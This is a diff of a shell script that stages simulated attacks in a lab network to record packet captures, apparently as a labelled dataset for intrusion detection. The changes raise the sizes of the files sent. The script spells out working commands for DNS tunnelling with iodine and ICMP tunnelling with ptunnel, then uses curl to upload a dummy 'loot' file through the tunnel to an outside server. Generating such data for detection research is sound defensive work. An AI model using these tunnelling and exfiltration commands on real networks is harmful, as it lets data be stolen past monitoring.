@@ -2,14 +2,14 @@
 
 case_dns_tunnel() {
     about attack dns_tunnel dns-tunnel.pcap.gz "mixed with benign" "10.20.0.31 (tunnel client)" "203.0.113.77 (tunnel server), through the resolver 10.20.0.53" \
-        "iodine through the cluster's resolver: a shell's back and forth, then 25 kB by HTTP out of the tunnel"
+        "iodine through the cluster's resolver: a shell's back and forth, then 40 kB by HTTP out of the tunnel"
     stage
     host insider in 10.20.0.31
     host server out 203.0.113.77 11
     start server iodined -f -c -P secret 10.99.0.1/28 t.example
     listening server udp 53
     web server
-    head -c 25000 /dev/urandom >"$TMP/loot"
+    head -c 40000 /dev/urandom >"$TMP/loot"
     capture 384
     murmur 900 &
     sleep 3
@@ -26,7 +26,7 @@ case_dns_tunnel() {
     ls -l "$TMP/server-web/html/upload"
 }
 
-# The tunnel at rest: only its polling, four to five minutes of it.
+# The tunnel at rest: only its login and polling.
 case_dns_tunnel_idle() {
     about attack dns_tunnel dns-tunnel-idle.pcap.gz "mixed with benign" "10.20.0.31 (tunnel client)" "203.0.113.77 (tunnel server)" \
         "iodine straight to its server, TXT answers, no data: login and polling only"
@@ -44,13 +44,13 @@ case_dns_tunnel_idle() {
 
 case_icmp_tunnel() {
     about attack icmp_exfil icmp-tunnel.pcap.gz "mixed with benign" "10.20.0.31 (tunnel client)" "203.0.113.77 (tunnel server)" \
-        "ptunnel: 40 kB to an HTTP server and 20 kB back, as echo requests and replies; an ordinary ping goes on beside"
+        "ptunnel: 150 kB to an HTTP server and 150 kB back, as echo requests and replies; an ordinary ping goes on beside"
     stage
     host insider in 10.20.0.31
     host server out 203.0.113.77 11
     web server
     on server sysctl -qw net.ipv4.icmp_echo_ignore_all=1
-    head -c 40000 /dev/urandom >"$TMP/loot"
+    head -c 150000 /dev/urandom >"$TMP/loot"
     start server ptunnel
     capture 160
     murmur 900 &
@@ -60,7 +60,7 @@ case_icmp_tunnel() {
     start insider ptunnel -p 203.0.113.77 -lp 8000 -da 203.0.113.77 -dp 80
     sleep 2
     attack insider curl -s --max-time 60 -T "$TMP/loot" http://127.0.0.1:8000/upload/loot
-    attack insider curl -s --max-time 60 http://127.0.0.1:8000/20.bin -o /dev/null
+    attack insider curl -s --max-time 60 http://127.0.0.1:8000/150.bin -o /dev/null
     sleep 5
     ENDED=$(date +%s.%N)
     finish 0
@@ -86,9 +86,10 @@ case_c2_beacon() {
 }
 
 case_exfiltration() {
-    about attack exfiltration exfiltration.pcap.gz "mixed with benign" 10.20.0.31 203.0.113.90 "curl uploads 22 MB by HTTPS to a server outside, at 1.5 MB/s"
+    about attack exfiltration exfiltration.pcap.gz "mixed with benign" 10.20.0.31 203.0.113.90 "curl uploads 22 MB by HTTPS to a server outside, at 1.5 MB/s; long segments, as a node's own sensor sees them"
     stage
     host insider in 10.20.0.31
+    offload insider
     host server out 203.0.113.90 18
     web server
     head -c 22M /dev/zero >"$TMP/loot"
